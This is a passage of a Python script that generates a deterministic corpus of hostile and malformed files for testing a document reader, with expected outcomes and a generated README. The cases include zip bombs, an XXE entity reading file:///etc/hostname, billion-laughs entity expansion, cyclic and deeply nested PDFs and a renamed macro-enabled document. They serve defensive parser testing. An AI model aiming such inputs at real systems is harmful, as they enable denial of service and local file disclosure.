    start = core.index(b"<dcterms:modified")
    end = core.index(b"</dcterms:modified>") + len(b"</dcterms:modified>")
    core = (
        core[:start]
        + b'<dcterms:modified xsi:type="dcterms:W3CDTF">2025-12-03T00:00:00Z</dcterms:modified>'
        + core[end:]
    )
    return _zip(_replace(entries, "docProps/core.xml", core))


def docm_renamed() -> bytes:
    """The report saved as a macro-enabled document (.docm), then renamed .docx."""
    entries = docx_entries()
    types = dict(entries)["[Content_Types].xml"]
    macro = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert macro != types
    return _zip(_replace(entries, "[Content_Types].xml", macro))


def html_page() -> bytes:
    """The report as a web page (Word's "Save as Web Page"), named .pdf."""
    body = "".join(f"<p>{line}</p>\n" for line in REPORT_LINES)
    return (
        "<!DOCTYPE html>\n<html lang=\"vi\"><head><meta charset=\"utf-8\"><title>Báo cáo</title>"
        f"</head>\n<body>\n{body}</body></html>\n"
    ).encode()


# --- the corpus ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    what: str
    expected: str  # a read-error code, "read", or "a|b" when either is right
    uses: tuple[str, ...] = ()  # libraries whose version the bytes depend on


CASES = [
    Case("empty.txt", lambda: b"", "0 bytes", "empty"),
    Case("noise.txt", noise, "64 KB of random bytes (random.Random(7))", "encoding"),
    Case(
        "pdf-corrupt.pdf",
        pdf_corrupt,
        "a valid %PDF-1.7 header, then 20 KB of random bytes",
        "corrupt",
    ),
    Case(
        "pdf-truncated.pdf",
        pdf_truncated,
        "the first half of a 3-page fpdf2 report (no xref, no trailer)",
        "corrupt|read",
        ("fpdf2",),
    ),
    Case(
        "pdf-encrypted-user-password.pdf",
        lambda: fpdf_report(owner_password="x", user_password="secret"),
        "fpdf2 report encrypted with a user password",
        "encrypted",
        ("fpdf2",),
    ),
    Case(
        "pdf-encrypted-owner-only.pdf",
        lambda: fpdf_report(owner_password="x", user_password=""),
        "fpdf2 report encrypted with an owner password and an EMPTY user password (opens without one)",
        "read",
        ("fpdf2",),
    ),
    Case(
        "pdf-external-link.pdf",
        pdf_with_link,
        "fpdf2 report whose lines are links to http://example.invalid/x",
        "read",
        ("fpdf2",),
    ),
    Case(
        "pdf-cyclic-page-tree.pdf",
        pdf_cyclic_page_tree,
        "hand-made PDF whose page tree lists itself as a kid",
        "corrupt|read",
    ),
    Case(
        "pdf-deep-nesting.pdf",
        pdf_deep_nesting,
        "hand-made PDF with arrays nested 50,000 deep in a page",
        "corrupt|read",
    ),
    Case(
        "pdf-incremental-update.pdf",
        pdf_incremental_update,
        "the report, then an incremental update replacing page 1 by a draft without the Công văn "
        "3078 line, its startxref 3 bytes early (viewers repair it and show the draft): the draft "
        "is what must be read, with a warning",
        "read",
    ),
    Case("png-renamed.pdf", png_image, "a 64x64 PNG image named .pdf", "unsupported", ("zlib",)),
    Case(
        "xlsx-renamed.docx",
        xlsx_workbook,
        "an openpyxl spreadsheet named .docx",
        "unsupported",
        ("openpyxl", "zlib"),
    ),
    Case(
        "docx-bomb-deflate.docx",
        docx_bomb_deflate,
        "zip bomb: word/document.xml holds 150 MB of `<p/>` elements, deflated ~1000:1",
        "too-large|corrupt",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-bomb-bzip2.docx",
        docx_bomb_bzip2,
        "zip bomb: word/document.xml is 1 GiB in one run, bzip2 (zip method 12)",
        "too-large|corrupt",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-bomb-lying-size.docx",
        docx_bomb_lying_size,
        "the 1 GiB bzip2 bomb, but the zip directory claims it unpacks to 4 KB",
        "corrupt|too-large",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-xxe.docx",
        docx_xxe,
        "external entities: &xxe; = file:///etc/hostname in the text, %remote; = http://example.invalid",
        "read|corrupt",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-billion-laughs.docx",
        docx_billion_laughs,
        "internal entities nested 10 deep (10^10 expansions) used in a paragraph",
        "read|corrupt",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-external-links.docx",
        docx_external_links,
        "hyperlink, linked picture, OLE link and attached template with TargetMode=External, an "
        "INCLUDETEXT field",
        "read",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-citations-wrapped.docx",
        docx_citations_wrapped,
        "the report with its cited line in a hyperlink, a plan citation in a tracked insertion "
        "beside a deleted one, its title in a content control; all read, the deletion not",
        "read",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-hidden-citation.docx",
        docx_hidden_citation,
        "the report whose Công văn 3078 line is hidden text (w:vanish): must not be found",
        "read",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-numbering-start-huge.docx",
        docx_numbering_start_huge,
        "automatic numbering starting at 10^12 in Roman numerals, 2^31-1 and 10^20 in letters",
        "read",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-gridspan-huge.docx",
        docx_gridspan_huge,
        "a table cell with gridSpan 2^31-1, then the report",
        "read",
        ("python-docx", "zlib"),
    ),
    Case(
        "docx-vmerge-chain.docx",
        docx_vmerge_chain,
        "a cell merged down 1,200 table rows (vMerge), then the report",
        "read",
        ("python-docx", "zlib"),
    ),
    Case(
        "docm-renamed.docx",
        docm_renamed,
        "the report saved as a macro-enabled .docm, renamed .docx",
        "unsupported",
        ("python-docx", "zlib"),
    ),
    Case("html-renamed.pdf", html_page, "the report as an HTML page, named .pdf", "unsupported"),
    Case("text-deep-numbering.txt", deep_numbering, "headings 1. … 1.1.(200 levels). Mục", "read"),
    Case(
        "text-many-numbered-lines.txt",
        many_numbered_lines,
        "5,000 numbered headings 1 to 4 levels deep",
        "read",
    ),
    Case(
        "text-mixed-encodings.txt",
        mixed_encodings,
        "UTF-8, cp1258 and BOM-less UTF-16-LE parts in one file; if read, the UTF-8 part must come out right",
        "encoding|read",
    ),
    Case(
        "text-invisible-marks.txt",
        invisible_marks,
        "U+2060 U+200B U+202E U+202C U+200F U+FEFF inside '3078/SKHCN-TĐC ngày 25/11/2025'; the "
        "citation must still be found",
        "read",
    ),
    Case(
        "text-utf8-stray-byte.txt",
        stray_byte,
        "the UTF-8 report with one stray cp1252 byte (0x85); must still be read as UTF-8",
        "read",
    ),
    Case("text-recipe-en.txt", lambda: RECIPE.encode(), "an English banana bread recipe", "read"),
    Case("text-python-source.txt", lambda: PYTHON_SOURCE.encode(), "Python source code", "read"),
    Case(
        "text-utf16-no-bom.txt",
        lambda: REPORT.encode("utf-16-le"),
        "the report in UTF-16-LE without BOM",
        "read",
    ),
    Case(
        "text-cp1258.txt",
        lambda: to_cp1258(REPORT),
        "the report in Windows-1258 (tones as combining marks)",
        "read",
    ),
]


# --- large inputs (never committed) --------------------------------------------------------


def _write_repeated(path: Path, unit: bytes, total: int) -> None:
    with path.open("wb") as stream:
        for block in _repeated(unit, total):
            stream.write(block)


def huge_text(path: Path) -> None:
    """200 MB of report text (over the 100 MB default limit)."""
    _write_repeated(path, REPORT.encode(), 200 * 1024 * 1024)


def long_line(path: Path) -> None:
    """A single 10 MB line of report sentences (no line break at all)."""
    _write_repeated(path, (CITED_LINE + " ").encode(), 10 * 1024 * 1024)


def many_empty_pages(path: Path) -> None:
    path.write_bytes(empty_pages_pdf(10_000))


def big_noise(path: Path) -> None:
    """A 20 KB report, then 400 KB of random bytes (the binary sniffing samples the start)."""
    path.write_bytes(
        REPORT.encode() * (20_000 // len(REPORT.encode()) + 1) + noise(400 * 1024, seed=400)
    )


@dataclass(frozen=True)
class LargeCase:
    name: str
    make: Callable[[Path], None]
    what: str
    expected: str


LARGE_CASES = [
    LargeCase("text-200mb.txt", huge_text, "200 MB of report text", "too-large"),
    LargeCase("text-single-line-10mb.txt", long_line, "one 10 MB line of report sentences", "read"),
    LargeCase(
        "pdf-10000-empty-pages.pdf",
        many_empty_pages,
        "fpdf2, 10,000 pages without text (~1.5 MB)",
        "empty",
    ),
    LargeCase(
        "text-then-noise.txt",
        big_noise,
        "20 KB of UTF-8 report text, then 400 KB of random bytes; if read, "
        "the report part must come out as UTF-8",
        "encoding|read",
    ),
]


def toolchain() -> dict[str, str]:
    from importlib.metadata import version

    return {
        "zlib": zlib.ZLIB_RUNTIME_VERSION,
        "fpdf2": version("fpdf2"),
        "python-docx": version("python-docx"),
        "openpyxl": version("openpyxl"),
    }


def readme() -> str:
    tools = " ".join(f"{name}=={value}" for name, value in toolchain().items())
    lines = [
        "# Hostile and bad inputs",
        "",
        "Made by `python scripts/make_bad_inputs.py` (deterministic: same bytes every run); do not",
        "edit these files by hand — change the script and regenerate. `tests/test_bad_inputs.py`",
        "checks that they are current and checks each one in a subprocess (time, memory, no network,",
        "no file opened outside the input and the installation). Expected outcome: a read-error code",
        '(`FileError.code`), or `read` when the file must be read and checked; "x or y": either is right.',
        "",
        f"Generated with: {tools}",
        "",
        "| file | what it is | expected |",
        "| --- | --- | --- |",
    ]
    lines += [
        f"| `{case.name}` | {case.what} | {case.expected.replace('|', ' or ')} |" for case in CASES
    ]
    lines += [
        "",
        "Large inputs, made by the tests in a temporary folder (`write_large`), never committed:",
        "",
        "| file | what it is | expected |",
        "| --- | --- | --- |",
    ]
    lines += [
        f"| `{case.name}` | {case.what} | {case.expected.replace('|', ' or ')} |"
        for case in LARGE_CASES
    ]
    return "\n".join(lines) + "\n"


def write_corpus(out_dir: Path) -> list[Path]:
    """Write every small case and README.md into ``out_dir``; returns the case files."""
    out_dir.mkdir(parents=True, exist_ok=True)
    written = []
    for case in CASES:
        data = case.make()
        if len(data) >= MAX_COMMITTED_BYTES:
            raise SystemExit(
                f"{case.name}: {len(data)} bytes, over the {MAX_COMMITTED_BYTES} limit"
            )
        path = out_dir / case.name
        path.write_bytes(data)
        written.append(path)
    (out_dir / "README.md").write_text(readme(), encoding="utf-8")
    return written


def write_large(out_dir: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write the large cases (all, or those named) into ``out_dir``."""
    out_dir.mkdir(parents=True, exist_ok=True)
    paths = {}
    for case in LARGE_CASES:
        if names is None or case.name in names:
            case.make(out_dir / case.name)
            paths[case.name] = out_dir / case.name
    return paths


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=BAD_DIR, help="folder for the committed corpus")
    parser.add_argument("--large", type=Path, help="also write the large inputs into this folder")
    args = parser.parse_args()
    for path in write_corpus(args.out):
        print(f"{path.stat().st_size:>9}  {path}")
    if args.large:
        for path in write_large(args.large).values():
            print(f"{path.stat().st_size:>9}  {path}")


if __name__ == "__main__":
    main()
